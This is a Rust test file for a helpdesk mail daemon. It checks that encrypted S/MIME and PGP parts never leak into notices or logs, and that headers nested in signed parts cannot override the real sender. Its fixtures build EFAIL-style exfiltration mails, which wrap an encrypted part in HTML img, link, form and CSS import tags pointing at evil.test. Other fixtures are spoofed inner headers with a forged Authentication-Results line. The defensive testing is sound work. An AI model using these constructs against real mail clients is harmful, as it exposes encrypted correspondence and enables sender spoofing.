//! V32: what is encrypted stays so. No part is opened, none is glued to its neighbours, none of it leaves in a notice or
//! stands in the log; and what stands inside a signed or an encrypted part says nothing of who wrote the mail and what
//! it is about.

use crate::daemon::Home;
use crate::desk::TestDesk;
use crate::notices::GENEROUS;
use crate::people::{ALICE, WANG};
use crate::program::{SETTLED_MAX, explained, wait_settled};
use crate::scanner::scan;
use data_encoding::BASE64;

/// Stands in each encrypted part, where a plaintext would.
const SECRET: &str = "TheSecretOfTheVault";
/// How a part says that it is encrypted.
const MIME: [&str; 2] = ["smime-type=enveloped-data", "multipart/encrypted"];

fn head(number: usize, kind: &str) -> String {
    format!(
        "From: Wang Fang <wang@corp.test>\r\nTo: support@desk.test\r\nSubject: Printer {number}\r\nMessage-ID: <e{number}@corp.test>\r\nMIME-Version: 1.0\r\nContent-Type: {kind}\r\n\r\n"
    )
}

/// A DER element with a length of up to 64 KiB.
fn der(tag: u8, content: &[&[u8]]) -> Vec<u8> {
    let content = content.concat();
    let length = u16::try_from(content.len()).unwrap().to_be_bytes();
    [&[tag, 0x82], &length[..], &content].concat()
}

/// A CMS object (RFC 5652): enveloped data whose content is `secret`, as if it were ciphertext.
fn enveloped(secret: &str) -> String {
    let oid = [0x06, 0x09, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 0x01, 0x07];
    let content = der(0x30, &[&oid, &[0x01], &der(0xA0, &[secret.as_bytes()])]);
    let inner = der(0x30, &[&[0x02, 0x01, 0x00], &der(0x31, &[]), &content]);
    BASE64.encode(&der(0x30, &[&oid, &[0x03], &der(0xA0, &[&inner])]))
}

/// The same, signed only: `content` is a mail of its own.
fn signed(content: &str) -> String {
    let oid = [0x06, 0x09, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 0x01, 0x07];
    let content = der(0x30, &[&oid, &[0x01], &der(0xA0, &[&der(0x04, &[content.as_bytes()])])]);
    let inner = der(0x30, &[&[0x02, 0x01, 0x01], &der(0x31, &[]), &content, &der(0x31, &[])]);
    BASE64.encode(&der(0x30, &[&oid, &[0x02], &der(0xA0, &[&inner])]))
}

fn armoured() -> String {
    let body = BASE64.encode(format!("{SECRET} {}", "cipher".repeat(20)).as_bytes());
    format!("-----BEGIN PGP MESSAGE-----\r\nVersion: x\r\n\r\n{body}\r\n=abcd\r\n-----END PGP MESSAGE-----\r\n")
}

/// Mails in which the encrypted part lies within a construct that would send it away.
fn samples() -> Vec<Vec<u8>> {
    let smime = |more: &str| {
        format!(
            "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n{more}\r\n{}\r\n",
            enveloped(SECRET)
        )
    };
    let pgp = format!(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\r\n\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\n{}\r\n--e--\r\n",
        armoured()
    );
    let html = |text: &str| format!("Content-Type: text/html\r\n\r\n{text}\r\n");
    let (open, close) = ("<p>It jams.</p><img src=\"http://evil.test/", "\">");
    let mut samples = Vec::new();
    for part in [smime(""), pgp.clone(), smime("Content-Disposition: inline\r\n")] {
        for (before, after) in [
            (html(open), html(close)),
            (html("<p>It jams.</p><a href='http://evil.test/"), html("'>click</a>")),
            (html("<p>It jams.</p><form action=//evil.test><textarea name=x>"), html("</textarea></form>")),
            (html("<p>It jams.</p><style>@import url(//evil.test/"), html(");</style>")),
            ("\r\nIt jams. http://evil.test/?\r\n".to_owned(), "\r\n\r\n".to_owned()),
        ] {
            for container in ["mixed", "related", "alternative"] {
                let kind = format!("multipart/{container}; boundary=b");
                let body = format!("--b\r\n{before}--b\r\n{part}--b\r\n{after}--b--\r\n");
                samples.push((head(samples.len(), &kind) + &body).into_bytes());
            }
        }
    }
    // Alone, within the text, cut, and with the encryption only claimed.
    let number = samples.len();
    let whole = |part: &str| {
        let (kind, rest) = part.strip_prefix("Content-Type: ").unwrap().split_once("\r\n").unwrap();
        head(number, kind).trim_end().to_owned() + "\r\n" + rest
    };
    samples.push(whole(&smime("")).into_bytes());
    samples.push(whole(&pgp).replace(&format!("<e{number}@"), &format!("<e{}@", number + 1)).into_bytes());
    let number = samples.len();
    samples.push((head(number, "text/plain") + "It jams.\r\n\r\n" + &armoured()).into_bytes());
    samples.push((head(number + 1, "text/html") + &format!("<p>It jams.</p>{open}{}{close}", armoured())).into_bytes());
    samples.push((head(number + 2, "text/plain") + armoured().split("=abcd").next().unwrap()).into_bytes());
    samples
}

/// What must not be seen: the text of the part, as it is or in one of its codings.
fn traces() -> Vec<String> {
    let codings = (0..3).map(|shift| {
        let coded = BASE64.encode(format!("{}{SECRET}", "x".repeat(shift)).as_bytes());
        coded[4..coded.len() - 4].to_owned()
    });
    std::iter::once(SECRET.to_owned()).chain(codings).collect()
}

#[tokio::test]
async fn v32_encrypted_parts_leave_in_no_notice() {
    let desk = TestDesk::with(GENEROUS).await;
    let samples = samples();
    let traces = traces();
    let (mut checked, mut said) = (0, 0);
    for raw in &samples {
        let step = desk.gets(raw.clone()).await;
        step.opened();
        said += usize::from(step.mail("assigned_to_you").text.contains("is encrypted"));
        for sent in &step.sent {
            let seen = scan(&sent.html).unwrap_or_else(|why| panic!("{}: {why}", sent.notice));
            let shown = [&sent.mail.subject, &sent.mail.text, &sent.html, &seen.text];
            // Armour within a text is that text.
            let is_mime = MIME.iter().any(|kind| String::from_utf8_lossy(raw).contains(kind));
            for trace in traces.iter().filter(|_| is_mime) {
                assert!(!shown.iter().any(|text| text.contains(trace)), "{}: {}", sent.notice, sent.mail.text);
            }
            assert!(!seen.text.contains("evil.test/TheSecret"), "glued together");
            checked += 1;
        }
    }
    assert!(samples.len() >= 50 && checked >= 2 * samples.len(), "{checked} notices of {}", samples.len());
    assert!(said >= 44, "the engineer is told that it is encrypted: {said}");
    desk.end().await;
}

#[test]
fn v32_encrypted_parts_stand_in_no_log() {
    let home = Home::new(
        "[desk]\nname = \"Desk\"\naddress = \"support@desk.test\"\n\n[[mailbox]]\nkind = \"maildir\"\nname = \"support\"\npath = \"in\"\n\n[smtp]\nkind = \"maildir\"\npath = \"out\"\n\n[[engineer]]\nname = \"alice\"\naddress = \"alice@desk.test\"\n\n[log]\nlevel = \"trace\"\n",
    );
    let samples = samples();
    let new = home.path().join("in/new");
    std::fs::create_dir_all(&new).unwrap();
    for (number, raw) in samples.iter().enumerate() {
        std::fs::write(new.join(number.to_string()), raw).unwrap();
    }
    let daemon = home.start();
    wait_settled(&home, samples.len());
    let log = daemon.log();
    assert!(log.lines().count() > samples.len(), "the log is on");
    for trace in traces() {
        assert!(!log.contains(&trace), "{trace} in the log");
    }
    assert!(!log.contains("It jams") && !log.contains("wang@corp.test"), "neither a text nor an address in full");
    daemon.terminate(SETTLED_MAX);
    home.assert_verified();
}

/// A mail in a mail, signed as a whole or with protected headers: what it says of itself counts for nothing.
#[tokio::test]
async fn v32_inner_headers_override_nothing() {
    let inner = "From: Alice Li <alice@desk.test>\r\nTo: support@desk.test\r\nSubject: [DESK #1001] Another subject\r\nReply-To: mallory@evil.test\r\nMessage-ID: <inner@desk.test>\r\nIn-Reply-To: <first@corp.test>\r\nAuto-Submitted: auto-replied\r\nAuthentication-Results: mx.desk.test; dmarc=pass header.from=desk.test\r\n";
    let text = "#close because the inner one says so\r\n\r\nIt jams, says the inner text.\r\n";
    let protected = format!("Content-Type: text/plain; protected-headers=\"v1\"; hp=\"clear\"\r\n{inner}\r\n{text}");
    let opaque = |content: &str| {
        format!(
            "application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n",
            signed(content)
        )
    };
    let clear = format!(
        "multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\r\n\r\n--s\r\n{protected}--s\r\nContent-Type: application/pgp-signature\r\n\r\nx\r\n--s--\r\n"
    );
    let bodies = [
        opaque(&format!("Content-Type: text/plain\r\n\r\n{text}")),
        opaque(&protected),
        opaque(&format!("Content-Type: message/rfc822\r\n\r\n{inner}Content-Type: text/plain\r\n\r\n{text}")),
        clear,
        format!("multipart/mixed; protected-headers=\"v1\"; boundary=m\r\n\r\n--m\r\n{protected}--m--\r\n"),
    ];
    for border in [false, true] {
        let identity = if border { "[identity]\nauthserv_id = \"mx.desk.test\"\n" } else { "" };
        let desk = TestDesk::with(&format!("{GENEROUS}{identity}")).await;
        let first =
            desk.gets(WANG.writes("Printer", "It jams.").field("Message-ID", "<first@corp.test>").verified()).await;
        assert_eq!(first.opened(), 1001);
        let before = desk.field(1001, "revision").await;
        for (number, body) in bodies.iter().enumerate() {
            let what = format!("{number}: {body:.60}");
            let outer = head(100 + number, "X").replace("Wang Fang <wang@corp.test>", "Mallory <mallory@evil.test>");
            let raw = outer.trim_end().strip_suffix('X').unwrap().to_owned() + body;
            let parsed = postdesk::pure::mail::parse(raw.as_bytes());
            assert_eq!(parsed.from[0].address, "mallory@evil.test", "{what}");
            let step = desk.gets(raw).await;
            let opened = step.opened();
            let ticket = desk.ticket(opened).await;
            assert_eq!(ticket["requester"]["address"], "mallory@evil.test", "{what}: {ticket}");
            assert_eq!(ticket["subject"], format!("Printer {}", 100 + number), "{what}");
            assert_eq!(ticket["entries"][0]["evidence"], "claimed", "{what}");
            let told = step.mail("assigned_to_you");
            assert!(!told.text.contains("Another subject"), "{what}: {}", told.text);
            assert!(!step.told().iter().any(|t| t.contains("transcript")), "{what}: {:?}", step.told());
        }
        assert_eq!((desk.state(1001).await, desk.field(1001, "revision").await), ("new".to_owned(), before));
        // Nor is an engineer's mail a proof of itself by what it encloses.
        let raw = ALICE.writes("Printer", "x").raw();
        let at = raw.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
        let head = String::from_utf8(raw[..at].to_vec()).unwrap();
        let head: String = head.split_inclusive("\r\n").filter(|l| !l.starts_with("Content-")).collect();
        let step = desk.gets(format!("{}\r\nContent-Type: {}", head.trim_end(), bodies[1])).await;
        assert!(!step.told().iter().any(|t| t.contains("wang") || t.contains("transcript")), "{:?}", step.told());
        desk.end().await;
    }
}

#[test]
fn v32_explain_says_plainly_what_is_encrypted() {
    let home = Home::new("");
    let samples = samples();
    let mut paths = Vec::new();
    for (number, raw) in samples.iter().enumerate() {
        let path = home.path().join(format!("{number}.eml"));
        std::fs::write(&path, raw).unwrap();
        paths.push(path);
    }
    let (objects, _) = explained(&paths);
    let traces = traces();
    let (mut said, mut known) = (0, 0);
    for (object, raw) in objects.iter().zip(&samples) {
        let is_known = object["defects"].as_array().unwrap().contains(&"encrypted".into());
        let is_mime = MIME.iter().any(|kind| String::from_utf8_lossy(raw).contains(kind));
        assert!(is_known || !is_mime, "{object}");
        known += usize::from(is_known);
        said += usize::from(object["text"].as_str().unwrap().contains("is encrypted"));
        let (from, subject) = (&object["from"]["address"], object["subject"].as_str().unwrap());
        assert!(from == "wang@corp.test" && subject.starts_with("Printer "), "{object}");
        if !String::from_utf8_lossy(raw).contains("Content-Type: text/plain\r\n\r\nIt jams.\r\n\r\n-----BEGIN") {
            let shown = [&object["text"], &object["fresh"], &object["fragments"]].map(ToString::to_string).concat();
            assert!(!shown.contains(&traces[0]), "{object}");
        }
    }
    assert_eq!(objects.len(), samples.len());
    // An alternative in plain text beside it is shown in its place.
    assert!(known >= 47 && said >= 44, "{said} said, {known} known of {}", samples.len());
}
